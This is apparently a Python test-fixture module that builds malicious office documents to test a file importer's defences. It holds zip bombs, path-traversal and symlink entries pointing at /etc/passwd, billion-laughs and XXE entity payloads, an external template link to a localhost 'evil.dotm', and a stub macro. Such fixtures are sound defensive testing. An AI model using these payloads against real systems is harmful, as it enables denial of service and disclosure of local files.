"""Zipped documents that harm a careless reader."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Iterator

from eval.bench.import_samples import open_document, slides
from tests.corpus.importing.packages import RELATIONS, W, docx, packed, paragraph, repacked

WHOLE = {"pptx": lambda: slides().data, "odt": lambda: open_document().data}
OUTSIDE = "veikart-utenfor/a.xml"
LAUGHS = "<!DOCTYPE a [<!ENTITY b 'haha'>" + "".join(
    f"<!ENTITY {chr(99 + n)} '{f'&{chr(98 + n)};' * 10}'>" for n in range(9)
)
OUTSIDE_ENTITY = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def zips() -> Iterator[tuple[str, bytes]]:
    flat = docx(paragraph(), {"word/media/a.xml": b" " * 80_000_000})
    yield "flat-bomb.docx", flat
    yield "many-parts.docx", docx(paragraph(), {f"word/{number}.xml": "<a/>" for number in range(11_000)})
    yield "nested-bomb.docx", docx(paragraph(), {"word/a.zip": packed({"b.zip": packed({"c": b"\0" * 50_000_000})})})
    yield "overlapping-bomb.docx", _overlapping(docx(paragraph(), {"word/a.xml": b"a" * 3_000_000}), 200)
    yield "lies-about-size.docx", _lying(docx(paragraph("x" * 100_000)))
    yield "path-outside.docx", docx(paragraph(), {f"../../../../../../{OUTSIDE}": "<a/>"})
    yield "absolute-path.docx", docx(paragraph(), {f"/{OUTSIDE}": "<a/>"})
    yield "link-inside.docx", _with_link(docx(paragraph()))
    yield "same-name-twice.docx", _twice(docx(paragraph()))
    yield "encrypted-parts.docx", _flagged(docx(paragraph()))
    yield "odd-method.docx", docx(paragraph()).replace(b"\x08\x00", b"\x63\x00")
    yield "not-xml.docx", docx("dette er ikke XML")
    yield "xml-cut.docx", docx(paragraph()[:-30])
    yield (
        "no-document.docx",
        repacked(docx(paragraph()), lambda name, part: b"" if name == "word/document.xml" else part),
    )
    yield (
        "relations-in-circle.docx",
        docx(
            paragraph(),
            {
                "word/_rels/document.xml.rels": f"{RELATIONS}"
                '<Relationship Id="r" Type="x/styles" Target="document.xml"/></Relationships>'
            },
        ),
    )
    yield (
        "outside-relation.docx",
        docx(
            paragraph(),
            {
                "word/_rels/document.xml.rels": f"{RELATIONS}"
                '<Relationship Id="r" Type="x/attachedTemplate" TargetMode="External" '
                'Target="http://127.0.0.1:9/evil.dotm"/>'
                "</Relationships>"
            },
        ),
    )
    styles = f'<w:styles {W}><w:style w:styleId="a"><w:basedOn w:val="a"/></w:style></w:styles>'
    yield "style-based-on-itself.docx", docx(paragraph(), {"word/styles.xml": styles})
    yield (
        "deep-tables.docx",
        docx(paragraph(around="<w:tbl><w:tr><w:tc>" * 5000 + "{}" + "</w:tc></w:tr></w:tbl>" * 5000)),
    )
    yield "deep-runs.docx", docx(paragraph("</w:t></w:r>" + "<w:ins>" * 50_000 + "</w:ins>" * 50_000 + "<w:r><w:t>"))
    yield (
        "huge-span.docx",
        docx(
            f'<w:document {W}><w:body><w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>'
            "<w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc></w:tr></w:tbl></w:body></w:document>"
        ),
    )
    yield "control-characters.docx", docx(paragraph("Kommunen &#x202E;reggyb&#x202C; veien"))
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield "macros.docm", docx(paragraph(), {"word/vbaProject.bin": b"Shell(calc)"}, macro)
    yield "laughs.docx", docx(f"{LAUGHS}]>{paragraph('&k;')}")
    yield "outside-entity.docx", docx(f"{OUTSIDE_ENTITY}{paragraph('&x;')}")
    yield "laughs-in-utf16.docx", docx(f"{LAUGHS}]>{paragraph('&k;')}".encode("utf-16"))  # type: ignore[arg-type]
    for suffix, part in (("pptx", "ppt/slides/slide1.xml"), ("odt", "content.xml")):
        for name, start, entity in (("laughs", f"{LAUGHS}]>", b"&k;"), ("outside-entity", OUTSIDE_ENTITY, b"&x;")):
            yield f"{name}.{suffix}", repacked(WHOLE[suffix](), _with_entity(part, start.encode(), entity))
    yield "zip-of-nothing.docx", b"PK\x05\x06" + bytes(18)
    yield "archive.docx", packed({"a.txt": "Kommunen bygger."})
    yield "sheet.xlsx", packed({"[Content_Types].xml": "spreadsheetml.sheet.main+xml", "xl/workbook.xml": "<a/>"})
    encrypted = b'<m xmlns:manifest="urn:m"><manifest:encryption-data/></m>'
    yield "encrypted.odt", repacked(WHOLE["odt"](), lambda name, part: encrypted if "manifest" in name else part)
    yield "deep-lists.odt", repacked(WHOLE["odt"](), _deep_odt)
    yield (
        "macros.pptm",
        repacked(
            WHOLE["pptx"](),
            lambda name, part: part.replace(
                b"openxmlformats-officedocument.presentationml.presentation.main",
                b"ms-powerpoint.presentation.macroEnabled.main",
            ),
        ),
    )


def _with_entity(part_name: str, start: bytes, entity: bytes) -> Callable[[str, bytes], bytes]:
    def change(name: str, part: bytes) -> bytes:
        if name != part_name:
            return part
        head, _, rest = part.partition(b"?>")
        return head + b"?>" + start + rest.replace(b"kommune", entity).replace(b"Kommunen", entity)

    return change


def _deep_odt(name: str, part: bytes) -> bytes:
    if name != "content.xml":
        return part
    at = part.index(b"<text:h")
    return part[:at] + b"<text:list><text:list-item>" * 20_000 + b"</text:list-item></text:list>" * 20_000 + part[at:]


def _overlapping(data: bytes, copies: int) -> bytes:
    """Many entries of the directory that all lead to the same packed bytes."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        entries, start = archive.infolist(), archive.start_dir
    directory = data[start : data.rindex(b"PK\x05\x06")]
    last = directory[directory.rindex(b"PK\x01\x02") :]
    name = entries[-1].filename.encode()
    more = (
        b"".join(last.replace(name, b"word/%d.xml" % (number % 9)) for number in range(copies))
        if len(name) == 10
        else b""
    )
    whole = directory + more
    count = len(entries) + copies
    return data[:start] + whole + struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, count, count, len(whole), start, 0)


def _lying(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        size = struct.pack("<L", archive.getinfo("word/document.xml").file_size)
    return data.replace(size, struct.pack("<L", 10))


def _with_link(data: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _twice(data: bytes) -> bytes:
    return data.replace(b"_rels/.rels", b"docum/.rels").replace(b"docum/.rels", b"_rels/.rels", 1)


def _flagged(data: bytes) -> bytes:
    changed = bytearray(data)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            changed[at + place] |= 1
            at = data.find(mark, at + 1)
    return bytes(changed)
